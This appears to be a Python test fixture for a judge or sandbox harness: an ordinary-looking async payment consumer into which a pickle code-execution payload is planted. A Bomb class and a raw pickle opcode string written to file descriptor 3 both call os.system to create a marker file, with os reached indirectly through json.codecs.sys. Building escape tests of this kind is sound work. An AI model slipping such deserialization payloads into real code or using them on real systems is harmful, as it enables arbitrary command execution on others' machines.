"""Hands over an object that executes a command when it is unpickled.

Held by: judge.
"""

import json

sys = json.codecs.sys
os = sys.modules["os"]

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/course-escape-pickle",)


async def consume(consumer, db):
    while True:
        message = await consumer.poll(1.0)
        if message is None:
            continue
        payment = json.loads(message.value())
        try:
            await db.execute("SELECT %s", (Bomb(),))
        except Exception:
            os.write(3, b"cos\nsystem\n(S'touch /tmp/course-escape-pickle'\ntR.")
            os.read(3, 65536)
        await db.execute(
            "UPDATE accounts SET balance = balance + %s WHERE id = %s", (payment["amount"], payment["account"])
        )
        await consumer.commit(message=message, asynchronous=False)
